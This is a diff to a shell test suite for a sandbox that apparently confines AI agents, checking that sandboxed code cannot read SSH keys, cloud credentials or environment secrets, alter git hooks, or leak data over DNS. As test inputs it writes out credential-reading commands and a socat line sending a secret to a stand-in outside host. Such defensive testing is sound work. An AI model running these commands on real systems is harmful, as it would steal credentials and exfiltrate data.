@@ -101,15 +101,20 @@ steals() {
 	run as_launcher env HOME="$BELONGINGS" sh -c 'cat ~/.ssh/id_ed25519 ~/.aws/credentials'
 	assert_output hunter2
 	run as_launcher env HOME="$BELONGINGS" "$(_user_sandbox)" -p "$CHECKOUT/profiles/agent.conf" -- \
-		sh -c 'cat ~/.ssh/* ~/.aws/*; find / -xdev -name "id_ed25519*" -o -name credentials -path "*aws*" 2>/dev/null'
+		sh -c 'cat ~/.ssh/* ~/.aws/*; find / -name answer.c -o -name "id_ed25519*" -o -path "*aws/credentials"
+			echo looked' 2>/dev/null
+	assert_line looked
+	assert_line /work/answer.c
 	refute_output hunter2
 	refute_output "PRIVATE KEY"
 	refute_output "$BELONGINGS"
 	refuses_keys
 	refuses sh -c 'grep -q hunter2 .env'
+	assert_status 1 # 2 would be no file at all
 	# The environment: its own, its parent's, and everybody's.
 	run as_launcher env AWS_SECRET_ACCESS_KEY=hunter2 GITHUB_TOKEN=hunter2 ANTHROPIC_API_KEY=hunter2 SSH_AUTH_SOCK=/tmp/hunter2 \
 		"$(_user_sandbox)" -p "$CHECKOUT/profiles/agent.conf" -- sh -c 'env; cat /proc/*/environ | tr "\0" "\n"'
+	assert_line HOME=/home/sandbox
 	refute_output hunter2
 	run as_launcher env GITHUB_TOKEN=hunter2 sh -c env
 	assert_output hunter2
@@ -182,12 +187,15 @@ lays_traps() {
 	belongings
 	as_launcher cp -a .git "$USER_TMP/git-$LAUNCHER"
 	run launch -- bash -c "$(leaves /work "$BELONGINGS")"
+	assert_status 0
 	assert_output 'Read-only file system'
 	as_launcher diff -r .git "$USER_TMP/git-$LAUNCHER"
 	run goes_on .
 	assert_status 1
 	# Where it may commit, hooks and configuration stay as well.
 	run launch -D git=read-write -- bash -c "$(leaves /work "$BELONGINGS" | grep -v commondir)"
+	assert_status 0
+	assert_output 'Read-only file system'
 	as_launcher diff .git/config "$USER_TMP/git-$LAUNCHER/config"
 	as_launcher diff -r .git/hooks "$USER_TMP/git-$LAUNCHER/hooks"
 	run goes_on .
@@ -203,6 +211,44 @@ lays_traps() {
 	each_launcher lays_traps
 }
 
+# A server for names, somewhere, that notes what it is asked, one after the other.
+names_as_a_way_out() {
+	local server word
+
+	nsenter --net="/run/netns/$NET-outside" -- python3 -c '
+import socket, sys
+server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+server.bind(("198.51.100.7", 53))
+with open(sys.argv[1], "ab", 0) as asked:
+    while True:
+        asked.write(server.recv(99))' "$TMP/asked" 3>&- &
+	server=$!
+	wait_until 5 asks from_host before
+	run launch "${LAUNCH_OPTIONS[@]}" -- bash -c "$(question inside)"
+	assert_line tried
+	run launch -s network.outbound.default=allow -- bash -c "$(question open)"
+	assert_line tried
+	wait_until 5 asks from_host behind
+	grep -q open "$TMP/asked"
+	if grep -q inside "$TMP/asked"; then
+		return 1
+	fi
+	kill "$server"
+	wait "$server" || :
+	rm "$TMP/asked"
+}
+
+# Often enough, and with time for pasta to pass it on.
+question() {
+	echo "for i in {1..5}; do echo $1 | socat -u - UDP4-SENDTO:198.51.100.7:53; sleep 0.2; done; echo tried"
+}
+
+# asks FROM WORD: whether the server has noted it.
+asks() {
+	"$1" sh -c "echo $2 | socat -u - UDP4-SENDTO:198.51.100.7:53"
+	grep -qs "$2" "$TMP/asked"
+}
+
 calls() {
 	local allowed=(-D host=api.example.test)
 
@@ -213,20 +259,16 @@ calls() {
 	run launch "${allowed[@]}" -- curl -s --max-time 5 http://api.example.test:443/
 	assert_line 'of the API'
 	refuses curl -s --max-time 2 -o /dev/null http://api.example.test:8443/
+	assert_unreached
 	refuses curl -s --max-time 2 -o /dev/null http://other.example.test:443/
 	refuses curl -s --max-time 2 -o /dev/null http://192.0.2.3:443/
+	assert_unreached
 	# The default is nobody.
-	run launch -- curl -s --max-time 2 -o /dev/null http://198.51.100.7:443/
-	[ "$status" -ne 0 ]
-	# Names as a way out: a server for them, anywhere.
-	on outside socat -u UDP4-RECVFROM:53,fork SYSTEM:"cat >>$TMP/user/asked" 3>&- &
-	sleep 0.3
-	run launch "${allowed[@]}" -- sh -c 'echo secret | socat -u - UDP4-SENDTO:198.51.100.7:53; true'
-	sleep 0.3
-	[ ! -e "$TMP/user/asked" ]
-	from_host sh -c 'echo secret | socat -u - UDP4-SENDTO:198.51.100.7:53'
-	wait_until 5 test -s "$TMP/user/asked"
-	rm "$TMP/user/asked"
+	LAUNCH_OPTIONS=()
+	refuses curl -s --max-time 2 -o /dev/null http://198.51.100.7:443/
+	assert_unreached
+	LAUNCH_OPTIONS=("${allowed[@]}")
+	names_as_a_way_out
 	serve_stop
 	wait_until 5 eval '! on outside curl -s -o /dev/null http://127.0.0.1:443/'
 	refuses_ways_out
